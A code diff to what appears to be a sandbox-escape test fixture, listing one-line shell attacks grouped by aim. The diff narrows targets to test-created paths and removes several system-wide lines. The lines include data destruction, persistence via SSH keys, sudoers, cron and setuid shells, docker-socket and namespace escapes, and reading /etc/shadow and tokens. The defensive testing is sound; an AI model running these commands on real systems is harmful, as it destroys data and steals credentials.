@@ -1,9 +1,11 @@
-/** What is done to a machine with a shell, as single lines, by what they are after. They find their aims in variables: see `attackAims`. */
+/**
+ * What is done to a machine with a shell, as single lines, by what they are after. They find their aims in variables: see `attackAims`.
+ * They aim only at what the test made: where a sandbox is broken, nothing else on the machine may be harmed.
+ */
 export const attackLines: Readonly<Record<string, readonly string[]>> = {
   'take everything away': [
-    'rm -rf --no-preserve-root / 2>/dev/null',
     'rm -rf "$REALHOME" "$OUT" "$STORE"',
-    'find / -xdev -type f -name "kept*" -delete',
+    'find "$REALHOME" "$OUT" "$STORE" -type f -name "kept*" -delete',
     'find "$OUT" -exec shred -u {} +',
     "perl -MFile::Path -e 'remove_tree($ENV{OUT})'",
     'python3 -c "import shutil, os; shutil.rmtree(os.environ[\'OUT\'], ignore_errors=True)"',
@@ -11,21 +13,15 @@ export const attackLines: Readonly<Record<string, readonly string[]>> = {
     'cd "$OUT" && git init -q . && git clean -fdx',
     'for f in "$OUT"/*; do truncate -s 0 "$f"; done; chmod -R 000 "$OUT"; chown -R 1:1 "$OUT"',
     'tar --remove-files -cf /dev/null -C / "${OUT#/}"',
-    'dd if=/dev/zero of=/dev/sda bs=1M count=1; dd if=/dev/zero of=/dev/vda bs=512 count=1; mkfs.ext4 -F /dev/vda; wipefs -a /dev/vda',
   ],
   'stay for later': [
     'echo "touch $OUT/mark" >> "$REALHOME/.bashrc"; echo x >> "$REALHOME/.profile"; echo x > "$REALHOME/.zshenv"',
     'mkdir -p "$REALHOME/.ssh" && echo "ssh-ed25519 AAAA evil" >> "$REALHOME/.ssh/authorized_keys"',
-    '(crontab -l; echo "* * * * * touch $OUT/mark") | crontab -; echo "* * * * * root id" > /etc/cron.d/x; echo id | at now',
     'mkdir -p "$REALHOME/.config/autostart" "$REALHOME/.config/systemd/user"; echo x > "$REALHOME/.config/systemd/user/x.service"',
-    'systemd-run --user touch "$OUT/mark"; systemctl --user daemon-reload; loginctl enable-linger',
-    'git config --global core.hooksPath "$OUT"; git config --global alias.st "!touch $OUT/mark"; git config --system core.pager x',
+    'git config --global core.hooksPath "$OUT"; git config --global alias.st "!touch $OUT/mark"',
     'printf "#!/bin/sh\\ntouch $OUT/mark\\n" > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout',
     'git config core.fsmonitor "touch $OUT/mark"; git config core.sshCommand "touch $OUT/mark"',
-    'npm config set prefix "$OUT" --location=user; npm config set script-shell "$OUT/kept" --location=global; pip config set global.index-url http://x.example',
-    'echo /tmp/evil.so > /etc/ld.so.preload; echo "ALL ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/x; echo "x::0:0::/:/bin/sh" >> /etc/passwd',
-    'cp /bin/sh "$OUT/sh"; chmod 4755 "$OUT/sh"; setcap cap_sys_admin+ep "$OUT/kept"; chattr +i "$OUT/kept"',
-    'echo "$OUT/kept" > /proc/sys/kernel/core_pattern; echo x > /sys/kernel/uevent_helper; sysctl -w kernel.modprobe=/tmp/x',
+    'cp /bin/sh "$OUT/sh"; chmod 4755 "$OUT/sh"; setcap cap_sys_admin+ep "$OUT/kept"',
     'mkdir -p .troupe && echo "sandbox: { network: on }" > .troupe/config.yaml; rm -rf .troupe; mv .troupe .t',
   ],
   'live on': [
@@ -39,18 +35,14 @@ export const attackLines: Readonly<Record<string, readonly string[]>> = {
     'screen -dmS x sleep 900; tmux new -d -s x "exec -a $MARK sleep 900"; dtach -n /tmp/x sleep 900',
   ],
   'reach others': [
-    'kill -9 "$VICTIM"; kill -STOP "$VICTIM"; kill -9 -- "-$VICTIM"; pkill -9 sleep; killall -9 sleep; kill -9 -1',
+    'kill -9 "$VICTIM"; kill -STOP "$VICTIM"; kill -9 -- "-$VICTIM"; kill -s KILL "$VICTIM"',
     'gdb -p "$VICTIM" -batch -ex "call (int)kill(0,9)"; strace -p "$VICTIM" -o /tmp/s; echo x > "/proc/$VICTIM/mem"',
     'ls -l /proc/[0-9]*/root /proc/[0-9]*/cwd; cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep -a SECRET_TEST',
     'nsenter -t 1 -a cat "$STORE/token"; nsenter -t "$VICTIM" -m cat "$STORE/token"; chroot /proc/1/root cat "$STORE/token"',
     'unshare -Urpf --mount-proc sh -c "mount -t tmpfs x $OUT"; unshare -m; capsh --print; newuidmap $$ 0 0 1',
-    'docker run --rm -v /:/host alpine cat /host/etc/shadow; podman run -v /:/h x; ctr c ls; lxc list; runc list',
     'curl -s --unix-socket /var/run/docker.sock http://x/containers/json; socat - UNIX-CONNECT:/run/containerd/containerd.sock',
     'sudo -n id; su -c id; doas id; pkexec id; runuser -u root id; newgrp root',
-    'insmod /tmp/x.ko; modprobe nbd; kexec -l /boot/vmlinuz; reboot -f; halt -f; echo b > /proc/sysrq-trigger; swapoff -a',
-    'iptables -F; ip link set lo down; tc qdisc add dev lo root netem loss 100%; hostname owned; date -s 2001-01-01; hwclock --set --date 2001-01-01',
-    'renice -20 -p 1; chrt -f -p 99 1; ionice -c1 -p 1; taskset -p 1 1; prlimit --pid "$VICTIM" --nofile=1',
-    'ipcs; ipcrm -a; ls /dev/shm /dev/mqueue; mkdir /sys/fs/cgroup/x; echo $$ > /sys/fs/cgroup/cgroup.procs',
+    'renice -20 -p "$VICTIM"; ionice -c1 -p "$VICTIM"; taskset -p 1 "$VICTIM"; prlimit --pid "$VICTIM" --nofile=1',
     'ssh-add -l; gpg --list-secret-keys; dbus-send --session --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames; keyctl show',
   ],
   'read what is private': [
@@ -61,7 +53,7 @@ export const attackLines: Readonly<Record<string, readonly string[]>> = {
     'awk "{print}" "$STORE/token"; sed p "$STORE/token"; xxd "$STORE/token"; base64 "$STORE/token"; od -c "$STORE/token"',
     "node -e \"console.log(require('fs').readFileSync(process.env.STORE + '/token', 'utf8'))\"",
     'git -c core.pager="cat $STORE/token" -p log; git --git-dir="$STORE" log; git diff --no-index /dev/null "$STORE/token"',
-    'mount --bind "$STORE" /tmp && cat /tmp/token; fuse-overlayfs -o lowerdir="$STORE" /tmp; debugfs -R "cat /token" /dev/vda',
+    'mkdir m && mount --bind "$STORE" m && cat m/token; debugfs -R "cat /token" /dev/vda',
     'cat /proc/self/mountinfo >/dev/null; cat "/proc/1/root$STORE/token"; cat /proc/1/cwd/token; ls -l /proc/self/fd | grep -v pipe',
     'cat /etc/shadow; env | grep -i secret_test; cat /proc/1/environ | tr "\\0" "\\n" | grep SECRET_TEST; history; dmesg',
     'python3 -c "import os; print(open(os.environ[\'STORE\'] + \'/token\').read())"; perl -pe 1 "$STORE/token"; ruby -e \'puts File.read(ENV["STORE"] + "/token")\'',
